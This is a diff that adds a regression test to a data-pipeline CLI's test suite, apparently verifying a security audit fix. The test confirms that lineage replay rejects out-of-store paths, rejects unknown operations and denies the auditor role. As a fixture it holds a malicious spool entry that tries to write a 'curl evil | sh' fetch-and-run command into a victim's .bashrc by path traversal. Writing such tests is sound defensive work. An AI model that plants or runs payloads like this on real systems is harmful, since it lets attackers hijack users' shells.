@@ -307,3 +307,34 @@ def test_a_pipeline_run_from_jupyter_records_the_notebook(
     assert run.data.tags["notebook.path"] == "notebooks/explore.ipynb"
     assert run.data.tags["kedro.env"] == "test"
     assert len(run.inputs.dataset_inputs) == 5
+
+
+def test_replay_refuses_paths_outside_the_artifact_store_and_unknown_operations(
+    workspace_dir: Path, tmp_path: Path
+) -> None:
+    """Finding 11: spool names were joined into paths unchecked, and anyone could replay."""
+    spool = workspace_dir / "data" / "lineage_spool"
+    spool.mkdir(parents=True)
+    target = tmp_path / "victim" / ".bashrc"
+    calls = [
+        {"op": "start", "experiment": "x", "run_name": "r", "tags": {}},
+        {"op": "log_texts", "texts": {str(target): "curl evil | sh"}},
+    ]
+    (spool / "evil.jsonl").write_text("\n".join(json.dumps(c) for c in calls) + "\n")
+    refused = run_command(["bankplatform", "lineage", "replay"], workspace_dir)
+    assert refused.returncode == 1
+    assert refused.stderr.strip().splitlines()[-1] == (
+        f"Error: spool evil: not an artifact name: {str(target)!r}"
+    )
+    assert not target.exists() and not target.parent.exists()
+    (spool / "evil.jsonl").write_text(json.dumps({"op": "_client"}) + "\n")
+    odd = run_command(["bankplatform", "lineage", "replay"], workspace_dir)
+    assert odd.stderr.strip().splitlines()[-1] == "Error: spool evil: unknown operation '_client'"
+    auditor = run_command(
+        ["bankplatform", "lineage", "replay"],
+        workspace_dir,
+        extra_env={"BANKPLATFORM_USER": "audrey.auditor"},
+    )
+    assert auditor.stderr.strip().splitlines()[-1] == (
+        "Error: access denied: audrey.auditor (roles: auditor) may not run_pipeline on lineage:replay"
+    )
